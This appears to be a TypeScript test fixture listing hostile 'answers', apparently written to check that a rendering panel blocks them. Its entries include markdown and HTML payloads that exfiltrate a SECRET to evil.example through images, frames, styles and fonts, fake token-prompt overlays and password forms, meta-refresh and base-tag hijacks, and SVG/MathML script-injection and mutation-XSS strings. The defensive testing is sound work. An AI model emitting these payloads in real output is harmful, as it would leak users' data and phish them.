import type { HostileAnswer } from './hostile-answer.ts';

/** Answers that would carry something out of the browser as they are shown, or cover the panel. */
export const REMOTE: readonly HostileAnswer[] = [
  { tries: 'loads an image that carries data', text: '![](https://evil.example/p.png?q=SECRET)' },
  { tries: 'loads an image by a reference', text: '![pixel][p]\n\n[p]: https://evil.example/p.png?q=SECRET' },
  { tries: 'loads an image in a link', text: '[![x](https://evil.example/a.png)](https://evil.example/)' },
  {
    tries: 'loads images from a table and a list',
    text: '| a |\n|--|\n| ![x](http://evil.example/a.png) |\n\n- ![y](//evil.example/b.png)',
  },
  {
    tries: 'loads an image as its address grows',
    text: '![a](https://evil.example/S) ![a](https://evil.example/SE) ![a](https://evil.example/SEC',
  },
  {
    tries: 'loads an image by HTML',
    text: '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" loading=eager>',
  },
  {
    tries: 'loads a picture',
    text: '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>',
  },
  {
    tries: 'loads media and their posters',
    text: '<video src="https://evil.example/a.mp4" poster="https://evil.example/a.png" autoplay></video>',
  },
  { tries: 'loads a frame', text: '<iframe src="https://evil.example/?q=SECRET"></iframe>' },
  {
    tries: 'fills a frame with a page',
    text: '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>',
  },
  {
    tries: 'loads an object and a plug-in',
    text: '<object data="https://evil.example/a"></object><embed src="https://evil.example/b">',
  },
  {
    tries: 'opens a portal and a fenced frame',
    text: '<portal src="https://evil.example"></portal><fencedframe></fencedframe>',
  },
  {
    tries: 'loads a style sheet',
    text: '<link rel="stylesheet" href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example/b">',
  },
  {
    tries: 'resolves and connects beforehand',
    text: '<link rel=dns-prefetch href="//secret.evil.example"><link rel=preconnect href="https://evil.example">',
  },
  {
    tries: 'imports a style',
    text: '<style>@import "https://evil.example/a.css"; * { background: url(https://evil.example/b) }</style>',
  },
  {
    tries: 'loads by a style attribute',
    text: '<p style="background-image: url(https://evil.example/a.png)">text</p>',
  },
  {
    tries: 'loads a font',
    text: '<style>@font-face { font-family: x; src: url(https://evil.example/a.woff2) } p { font-family: x }</style>',
  },
  {
    tries: 'covers the panel',
    text: '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
  },
  {
    tries: 'covers the panel by the panel’s own classes',
    text: '<div class="dialog-overlay" role="dialog">Enter your token</div>',
  },
  {
    tries: 'opens a modal dialog',
    text: '<dialog open style="width:100vw;height:100vh">Enter your token</dialog>',
  },
  { tries: 'hides the panel', text: '<style>* { display: none !important }</style>' },
  {
    tries: 'asks for a password',
    text: '<form action="https://evil.example/"><input type=password name=p><button>Log in</button></form>',
  },
  {
    tries: 'gives a button an address of its own',
    text: '<button formaction="https://evil.example/" form=x>Send</button><input type=image src="https://evil.example/a">',
  },
  {
    tries: 'leads the panel elsewhere after a moment',
    text: '<meta http-equiv="refresh" content="0;url=https://evil.example/?q=SECRET">',
  },
  {
    tries: 'changes what addresses are relative to',
    text: '<base href="https://evil.example/" target="_top">\n\n[x](relative)',
  },
  {
    tries: 'loosens the security policy',
    text: '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  },
  { tries: 'draws with SVG that runs', text: '<svg onload="owned = 1"><script>owned = 1</script></svg>' },
  {
    tries: 'draws with SVG that animates an address',
    text: '<svg><a><animate attributeName=href values="javascript:owned=1"/><text y=20>x</text></a></svg>',
  },
  {
    tries: 'loads by SVG',
    text: '<svg><image href="https://evil.example/a.png"/><use href="https://evil.example/b.svg#c"/></svg>',
  },
  {
    tries: 'puts HTML into SVG',
    text: '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  },
  {
    tries: 'draws SVG in a code block',
    text: '```svg\n<svg onload="owned = 1"><image href="https://evil.example/a"/></svg>\n```',
  },
  {
    tries: 'links by MathML',
    text: '<math href="javascript:owned=1"><mi xlink:href="javascript:owned=1">x</mi></math>',
  },
  {
    tries: 'acts by MathML',
    text: '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:owned=1">click</maction></math>',
  },
  {
    tries: 'puts HTML into a formula’s annotation',
    text: '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=owned=1></annotation-xml></semantics></math>',
  },
  {
    tries: 'mutates between MathML and HTML',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=owned=1&gt;">',
  },
];
